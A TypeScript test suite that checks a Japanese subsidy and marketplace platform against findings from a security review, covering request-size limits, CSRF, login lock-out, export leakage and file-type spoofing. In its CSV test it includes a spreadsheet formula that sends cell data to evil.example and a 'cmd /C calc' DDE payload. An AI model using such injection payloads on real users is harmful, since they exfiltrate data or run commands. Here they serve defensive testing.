import { DataSource } from 'typeorm';
import { approvedMember, secretariatTokenFor } from '../factories/members';
import { auth, issueInput } from '../factories/marketplace';
import { createProgram, docxFile, draftApplication, extraSecretariat, pdfFile, zipFile } from '../factories/subsidies';
import { createEvent, publishedSolution } from '../factories/events';
import { EXPORTED_LINKS } from '../../src/reliability/export.service';
import { createTestApp, TestApp } from '../support/app';
import { pageClient } from '../support/pages';

/** Findings of the attacker-style review (security issue), each with the behaviour a user or an attacker would see. */
describe('security review findings', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp('security');
  });
  afterAll(async () => {
    await t?.close();
  });

  it('a body with tens of thousands of unknown keys is refused as too large, and the server keeps answering', async () => {
    const body: Record<string, string> = { email: 'someone@example.jp' };
    for (let i = 0; i < 50_000; i++) body[`k${i}`] = 'x';
    const [refused, health] = await Promise.all([t.http().post('/api/v1/auth/password-resets').send(body), t.http().get('/health')]);
    expect(refused.status).toBe(413);
    expect(refused.body.code).toBe('tooManyFields');
    expect(refused.body.message).toContain('項目が多すぎます');
    expect(health.status).toBe(200);
  });

  it('many small objects adding up to too many members are refused too; an ordinary body still passes', async () => {
    const items = Array.from({ length: 3000 }, (_, i) => ({ a: i, b: i }));
    const refused = await t.http().post('/api/v1/auth/password-resets').send({ email: 'someone@example.jp', items });
    expect(refused.status).toBe(413);
    const ok = await t.http().post('/api/v1/auth/password-resets').send({ email: 'someone@example.jp' });
    expect(ok.status).toBeLessThan(300);
  });

  it('a signed-in page session cannot write through the API by changing the case of the path', async () => {
    const muni = await approvedMember(t, 'municipality', { municipalityCode: '27100' });
    const browser = pageClient(t);
    await browser.signIn(muni.email, muni.password);
    for (const path of ['/API/v1/issues', '/Api/V1/issues']) {
      const res = await browser.agent
        .post(path)
        .set('x-csrf-token', browser.csrf)
        .send(issueInput({ title: `大文字小文字で ${path}` }));
      expect(res.status).toBe(401);
    }
    const drafts = await t.http().get('/api/v1/issues?status=draft').set(auth(muni.token));
    expect(drafts.status).toBe(200);
    expect(JSON.stringify(drafts.body)).not.toContain('大文字小文字で');
  });

  it("a municipality named as partner in another company's draft gets none of it in its organisation export", async () => {
    const city = await approvedMember(t, 'municipality', { municipalityCode: '27203' });
    const company = await approvedMember(t);
    const program = await createProgram(t, await secretariatTokenFor(t), { title: 'エクスポート確認用の補助金' });
    const draft = await draftApplication(t, company.token, program.id, {
      title: '社外秘：下書きの補助金申請',
      summary: '他社に見せてはならない下書きの概要',
      municipalPartnerOrganizationId: city.organizationId,
    });
    await t.http().get(`/api/v1/subsidy-applications/${draft.id}`).set(auth(city.token)).expect(404);
    const res = await t.http().get(`/api/v1/organizations/${city.organizationId}/export`).set(auth(city.token)).expect(200);
    const text = JSON.stringify(res.body);
    expect(text).not.toContain(draft.id);
    expect(text).not.toContain('社外秘');
    expect(text).not.toContain('他社に見せてはならない');
    expect(res.body.data.users.map((u: { email: string }) => u.email)).toEqual([city.email]);
    // the applicant still gets its own draft
    const own = await t.http().get(`/api/v1/organizations/${company.organizationId}/export`).set(auth(company.token)).expect(200);
    expect(own.body.data.subsidyApplications.map((a: { id: string }) => a.id)).toEqual([draft.id]);
    // every foreign key to an organisation or a person has been judged, so a new table is not exported unseen
    const links: { link: string }[] = await t.app.get(DataSource).query(
      `SELECT cl.relname || '.' || a.attname AS link FROM pg_constraint k JOIN pg_class cl ON cl.oid = k.conrelid
         JOIN pg_class pl ON pl.oid = k.confrelid JOIN pg_attribute a ON a.attrelid = k.conrelid AND a.attnum = k.conkey[1]
        WHERE k.contype = 'f' AND pl.relname IN ('organizations', 'users')`,
    );
    expect(links.map((l) => l.link).filter((l) => !(l in EXPORTED_LINKS))).toEqual([]);
  });

  it('twenty simultaneous wrong passwords for one account: at most five are judged, the lock-out is recorded and mailed once', async () => {
    const victim = await approvedMember(t);
    const db = t.app.get(DataSource);
    const guesses = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        t
          .http()
          .post('/api/v1/auth/tokens')
          .send({ email: victim.email, password: `guess-${i}-wrong` }),
      ),
    );
    const statuses = guesses.map((r) => r.status);
    expect(statuses.filter((s) => s === 401)).toHaveLength(5);
    expect(statuses.filter((s) => s === 429)).toHaveLength(15);
    const [victimRow] = await db.query(`SELECT id FROM users WHERE email = $1`, [victim.email]);
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'auth.lockedOut' AND subject_id = $1`, [
      victimRow.id,
    ]);
    expect(n).toBe(1);
    await t.flushMail();
    expect(t.mail.to(victim.email).filter((m) => m.subject.includes('ログインを一時的に停止'))).toHaveLength(1);
    // the right password is refused too while the account is locked
    await t.http().post('/api/v1/auth/tokens').send({ email: victim.email, password: victim.password }).expect(429);
  });

  it('anonymous visitors, applicants and other members are not told who reviews a programme; the secretariat is', async () => {
    const sec = await secretariatTokenFor(t);
    const city = await approvedMember(t, 'municipality', { municipalityCode: '27205' });
    const company = await approvedMember(t);
    const reviewer = await approvedMember(t, 'university', { name: '審査大学' });
    const reviewerName = (await t.http().get('/api/v1/me').set(auth(reviewer.token))).body.user.displayName as string;
    const program = await createProgram(t, sec, { title: '審査員を伏せる補助金' });
    const app = await draftApplication(t, company.token, program.id, { municipalPartnerOrganizationId: city.organizationId });
    await t.http().post(`/api/v1/subsidy-applications/${app.id}/submit`).set(auth(company.token)).expect(200);
    await t.http().post(`/api/v1/subsidy-applications/${app.id}/reviewers`).set(auth(sec)).send({ email: reviewer.email }).expect(200);

    for (const who of [undefined, company.token, city.token]) {
      const one = await t
        .http()
        .get(`/api/v1/subsidy-programs/${program.id}`)
        .set(who ? auth(who) : {});
      expect(one.status).toBe(200);
      expect(one.body.reviewers).toEqual([]);
      const list = await t
        .http()
        .get('/api/v1/subsidy-programs')
        .set(who ? auth(who) : {});
      expect(JSON.stringify(list.body)).not.toContain(reviewerName);
      expect(JSON.stringify(list.body)).not.toContain('審査大学');
    }
    const page = await t.http().get(`/subsidies/programs/${program.id}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain('審査員を伏せる補助金');
    expect(page.text).not.toContain(reviewerName);
    expect(page.text).not.toContain('審査大学');

    const bySecretariat = await t.http().get(`/api/v1/subsidy-programs/${program.id}`).set(auth(sec)).expect(200);
    expect(bySecretariat.body.reviewers).toEqual([{ displayName: reviewerName, organizationName: '審査大学' }]);
  });

  it("a pitch judge cannot score their own organisation's pitch, nor be assigned to a pitch day where it pitches", async () => {
    const sec = await secretariatTokenFor(t);
    const db = t.app.get(DataSource);
    const idOf = async (email: string): Promise<string> => (await db.query(`SELECT id FROM users WHERE email = $1`, [email]))[0].id;
    const event = await createEvent(t, { title: '利益相反を防ぐピッチデイ', kind: 'pitch' });
    const pitching = await approvedMember(t, 'corporation', { name: '株式会社先に申込' });
    const firstSolution = await publishedSolution(t, pitching, '先に申し込んだソリューション');
    await t
      .http()
      .post(`/api/v1/events/${event.id}/pitch-applications`)
      .set(auth(pitching.token))
      .send({ solutionId: firstSolution, summary: '先に申し込みます。' })
      .expect(201);
    // assignment: refused for someone of an organisation that pitches that day
    const refused = await t
      .http()
      .post(`/api/v1/events/${event.id}/judges`)
      .set(auth(sec))
      .send({ userId: await idOf(pitching.email) });
    expect(refused.status).toBe(409);
    expect(JSON.stringify(refused.body)).toContain('発表を申し込んでいる組織の方は');

    // a judge assigned before their organisation applied cannot score its pitch (but scores the others)
    const judgeOrg = await approvedMember(t, 'corporation', { name: '株式会社後から申込' });
    await t
      .http()
      .post(`/api/v1/events/${event.id}/judges`)
      .set(auth(sec))
      .send({ userId: await idOf(judgeOrg.email) })
      .expect(204);
    const ownSolution = await publishedSolution(t, judgeOrg, '審査員の組織のソリューション');
    const own = await t
      .http()
      .post(`/api/v1/events/${event.id}/pitch-applications`)
      .set(auth(judgeOrg.token))
      .send({ solutionId: ownSolution, summary: '審査員の組織も申し込みます。' })
      .expect(201);
    const list = await t.http().get(`/api/v1/events/${event.id}/pitch-applications`).set(auth(sec)).expect(200);
    for (const a of list.body.items)
      await t.http().post(`/api/v1/pitch-applications/${a.id}/decision`).set(auth(sec)).send({ decision: 'selected' }).expect(200);
    const scores = { novelty: 5, feasibility: 5, contribution: 5 };
    const self = await t.http().post(`/api/v1/pitch-applications/${own.body.id}/scores`).set(auth(judgeOrg.token)).send({ scores });
    expect(self.status).toBe(403);
    expect(self.body.message).toContain('ご自身の組織のピッチは審査できません');
    const other = list.body.items.find((a: { id: string }) => a.id !== own.body.id);
    await t.http().post(`/api/v1/pitch-applications/${other.id}/scores`).set(auth(judgeOrg.token)).send({ scores }).expect(201);
  });

  it('the attachment form keeps its CSRF token out of the URL; an upload without the token in the form is refused', async () => {
    const city = await approvedMember(t, 'municipality', { municipalityCode: '27207' });
    const company = await approvedMember(t);
    const program = await createProgram(t, await secretariatTokenFor(t), { title: 'アップロード確認用の補助金' });
    const app = await draftApplication(t, company.token, program.id, { municipalPartnerOrganizationId: city.organizationId });
    const browser = pageClient(t);
    await browser.signIn(company.email, company.password);
    const page = await browser.get(`/subsidies/applications/${app.id}`);
    expect(page.status).toBe(200);
    const form = /<form[^>]*enctype="multipart\/form-data"[^>]*>/.exec(page.text)?.[0] ?? '';
    expect(form).toContain(`action="/subsidies/applications/${app.id}/attachments"`);
    expect(form).not.toContain('_csrf');
    const attachments = async () =>
      (await t.http().get(`/api/v1/subsidy-applications/${app.id}`).set(auth(company.token))).body.attachments as { filename: string }[];

    const upload = (query: string, token?: string) => {
      const req = browser.agent.post(`/subsidies/applications/${app.id}/attachments${query}`).set('Accept', 'text/html');
      if (token !== undefined) req.field('_csrf', token);
      return req.field('kind', 'application').attach('file', pdfFile(), '見積書.pdf');
    };
    expect((await upload('')).status).toBe(403);
    expect((await upload('', 'not-the-token')).status).toBe(403);
    expect((await upload(`?_csrf=${browser.csrf}`)).status).toBe(403); // a token in the URL no longer counts
    expect(await attachments()).toEqual([]);
    const ok = await upload('', browser.csrf);
    expect(ok.status).toBe(303);
    expect((await attachments()).map((a) => a.filename)).toEqual(['見積書.pdf']);
  });

  it('six password-reset requests for one address send three mails, and every answer looks the same', async () => {
    const member = await approvedMember(t);
    const answers = [];
    for (let i = 0; i < 6; i++) answers.push(await t.http().post('/api/v1/auth/password-resets').send({ email: member.email }));
    expect(new Set(answers.map((a) => `${a.status} ${JSON.stringify(a.body)}`)).size).toBe(1);
    expect(answers[0].status).toBeLessThan(300);
    await t.flushMail();
    expect(t.mail.to(member.email).filter((m) => m.subject.includes('パスワード再設定'))).toHaveLength(3);
  });

  it('a ZIP that merely names the Word parts is refused as .docx; a real Word document is accepted', async () => {
    const city = await approvedMember(t, 'municipality', { municipalityCode: '27209' });
    const company = await approvedMember(t);
    const program = await createProgram(t, await secretariatTokenFor(t), { title: 'ファイル形式確認用の補助金' });
    const app = await draftApplication(t, company.token, program.id, { municipalPartnerOrganizationId: city.organizationId });
    const upload = (file: Buffer) =>
      t.http().post(`/api/v1/subsidy-applications/${app.id}/attachments`).set(auth(company.token)).attach('file', file, '報告書.docx');
    const declared =
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
    const fakes = {
      namesInBytes: Buffer.concat([
        Buffer.from([0x50, 0x4b, 0x03, 0x04]),
        Buffer.from('\x14\x00\x00\x00\x00\x00[Content_Types].xml<Types/>PK\x03\x04word/document.xml<w:document/>PK\x05\x06', 'latin1'),
      ]),
      nothingDeclared: zipFile([
        ['[Content_Types].xml', '<Types/>'],
        ['word/document.xml', '<w:document/>'],
      ]),
      emptyMainPart: zipFile([
        ['[Content_Types].xml', declared],
        ['word/document.xml', ''],
      ]),
      programAsMainPart: zipFile([
        ['[Content_Types].xml', declared],
        ['word/document.xml', 'MZ\u0090\u0000 this program cannot be run in DOS mode'],
      ]),
    };
    for (const [name, file] of Object.entries(fakes)) expect([name, (await upload(file)).status]).toEqual([name, 415]);
    expect((await upload(docxFile())).status).toBe(201);
  });

  it("a project's public history names the secretariat as 「事務局」, never its staff member's id or name", async () => {
    const sec = (await extraSecretariat(t)).token; // a named staff member (事務局 xxxx)
    const me = (await t.http().get('/api/v1/me').set(auth(sec))).body.user as { id: string; displayName: string };
    const city = await approvedMember(t, 'municipality', { municipalityCode: '27210' });
    const company = await approvedMember(t, 'corporation', { name: '株式会社履歴確認' });
    const created = await t
      .http()
      .post('/api/v1/projects')
      .set(auth(sec))
      .send({
        title: '事務局が登録したプロジェクト',
        fieldSlug: 'mobility',
        summary: '事務局が代わりに登録します。',
        coordinatorOrganizationId: company.organizationId,
        municipalityOrganizationIds: [city.organizationId],
      })
      .expect(201);
    await t.http().post(`/api/v1/projects/${created.body.id}/transitions`).set(auth(sec)).send({ to: 'demonstration' }).expect(200);
    await t
      .http()
      .post(`/api/v1/projects/${created.body.id}/transitions`)
      .set(auth(company.token))
      .send({ to: 'implementation' })
      .expect(200);

    const publicView = await t.http().get(`/api/v1/projects/${created.body.id}`).expect(200);
    expect(publicView.body.history.map((h: { actor: unknown }) => h.actor)).toEqual([
      { id: null, displayName: '事務局', organizationName: null },
      { id: null, displayName: '事務局', organizationName: null },
      expect.objectContaining({ organizationName: '株式会社履歴確認' }),
    ]);
    expect(JSON.stringify(publicView.body)).not.toContain(me.id);
    expect(JSON.stringify(publicView.body)).not.toContain(me.displayName);
    const page = await t.http().get(`/projects/${created.body.id}`).expect(200);
    expect(page.text).toContain('（事務局）');
    expect(page.text).not.toContain(me.displayName);
  });

  it('a formula in an opted-in issue title comes out of the open-data CSV as text, not as a live formula', async () => {
    const muni = await approvedMember(t, 'municipality', { municipalityCode: '27211' });
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await t
      .http()
      .post('/api/v1/issues')
      .set(auth(muni.token))
      .send(issueInput({ title, body: '@SUM(1+1)*cmd|" /C calc"!A0', status: 'published', openData: true }))
      .expect(201);
    const csv = (await t.http().get('/api/v1/open-data/issues.csv').buffer(true)).text;
    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(line).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(line).not.toMatch(/(^|,)"[=+\-@]/);
  });

  it("open data is the municipality's choice per issue: members only by default, released from the form, shown on the page", async () => {
    const muni = await approvedMember(t, 'municipality', { municipalityCode: '27212' });
    const browser = pageClient(t);
    await browser.signIn(muni.email, muni.password);
    const form = await browser.get('/issues/new');
    expect(form.text).toMatch(/<input id="openData" name="openData" type="checkbox" value="true"/);
    expect(form.text).toContain('オープンデータとして公開');
    const base = { body: '会員と共有したい課題の本文です。', fieldSlugs: 'mobility', tags: '', status: 'published' };
    const shared = await browser.post('/issues', { ...base, title: '会員だけに共有する課題' });
    const released = await browser.post('/issues', { ...base, title: 'オープンデータにする課題', openData: 'true' });
    expect([shared.status, released.status]).toEqual([303, 303]);
    const idOf = (res: { headers: Record<string, string> }) => res.headers.location.split('/').pop()!;

    const sharedView = await t
      .http()
      .get(`/api/v1/issues/${idOf(shared)}`)
      .set(auth(muni.token));
    const releasedView = await t
      .http()
      .get(`/api/v1/issues/${idOf(released)}`)
      .set(auth(muni.token));
    expect([sharedView.body.openData, releasedView.body.openData]).toEqual([false, true]);
    expect((await browser.get(`/issues/${idOf(shared)}`)).text).toContain('会員限定');
    expect((await browser.get(`/issues/${idOf(released)}`)).text).toMatch(/<dd>オープンデータとして公開<\/dd>/);

    const open = JSON.stringify((await t.http().get('/api/v1/open-data/issues.json')).body);
    expect(open).toContain('オープンデータにする課題');
    expect(open).not.toContain('会員だけに共有する課題');
    expect((await t.http().get('/api/v1/open-data/issues.csv').buffer(true)).text).not.toContain('会員だけに共有する課題');

    // unchecking the box on the edit form withdraws it
    const edit = await browser.get(`/issues/${idOf(released)}/edit`);
    expect(edit.text).toMatch(/name="openData" type="checkbox" value="true"[^>]* checked/);
    const saved = await browser.post(`/issues/${idOf(released)}/edit`, {
      ...base,
      title: 'オープンデータにする課題',
      version: String(releasedView.body.version),
    });
    expect(saved.status).toBe(303);
    expect(JSON.stringify((await t.http().get('/api/v1/open-data/issues.json')).body)).not.toContain('オープンデータにする課題');
  });
});
